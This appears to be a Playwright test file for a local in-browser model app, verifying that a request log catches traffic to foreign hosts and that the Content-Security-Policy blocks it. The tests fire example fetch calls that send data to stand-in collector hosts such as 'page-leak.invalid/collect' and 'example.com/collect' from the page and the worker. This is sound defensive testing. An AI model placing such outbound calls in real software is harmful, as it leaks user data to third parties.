// Nothing leaves but to the hub: the leak check every spec gets from ./app (RequestLog) sees the
// engine worker's downloads as well as the page's, counts a request to any other host as a leak, and
// does not count one the Content-Security-Policy stopped inside the browser.
import { expect, openApp, test, waitForModel } from './app';

// This spec needs the service worker (playwright.config.ts blocks it elsewhere).
test.use({ serviceWorkers: 'allow' });

test.describe('the request log', () => {
	test.use({ leakCheck: false, bypassCSP: true });

	test('sees the worker download the model, and a request to another host from the page or the worker', async ({ page, requestLog }) => {
		// The worker's own policy comes with its script (tests/serve.mjs): take it off, as a host without headers would.
		await page.route('**/_app/**/*.js', async (route) => {
			const response = await route.fetch();
			const headers = { ...response.headers() };
			delete headers['content-security-policy'];
			await route.fulfill({ response, headers });
		});
		await openApp(page, { max_tokens: 4 });
		await waitForModel(page);
		// stories260K.bin is fetched by the engine's worker, not the page.
		expect(requestLog.requests.some((r) => r.url.endsWith('/stories260K.bin'))).toBe(true);
		expect(requestLog.foreign([page])).toEqual([]);
		await page.evaluate(() => fetch('http://page-leak.invalid/collect').catch(() => null));
		const worker = page.workers().find((w) => w.url().includes('worker'));
		expect(worker, 'the engine worker').toBeTruthy();
		await worker!.evaluate(() => fetch('http://worker-leak.invalid/collect').catch(() => null));
		await expect
			.poll(() => requestLog.foreign([page]).sort())
			.toEqual(['http://page-leak.invalid/collect', 'http://worker-leak.invalid/collect']);
	});
});

test.describe('with the policy on', () => {
	test.use({ leakCheck: false });

	test('a request the policy refuses never left, so it is no leak', async ({ page, requestLog }) => {
		await page.goto('/');
		const sent = await page.evaluate(() =>
			fetch('https://example.com/collect', { method: 'POST', body: 'x' }).then(
				() => 'sent',
				() => 'refused'
			)
		);
		expect(sent).toBe('refused');
		expect(requestLog.foreign([page])).toEqual([]);
	});
});

// tests/serve.mjs sends the page's policy with the app's scripts (a host's job: README, "Serving it").
test('the engine worker runs under the policy sent with its script, which refuses other hosts', async ({ page }) => {
	// Loading builds the ORT sessions, so onnxruntime-web's wasm compiled under the worker's policy.
	await openApp(page);
	await waitForModel(page);
	const worker = page.workers().find((w) => w.url().includes('worker'));
	expect(worker, 'the engine worker').toBeTruthy();
	const seen = await worker!.evaluate(
		() =>
			new Promise<string>((done) => {
				self.addEventListener('securitypolicyviolation', (e) => done(`refused by ${e.effectiveDirective}`));
				fetch('https://example.com/collect', { method: 'POST', body: 'x' }).then(
					() => done('sent'),
					() => setTimeout(() => done('failed without a violation'), 2000)
				);
			})
	);
	expect(seen).toBe('refused by connect-src');
});
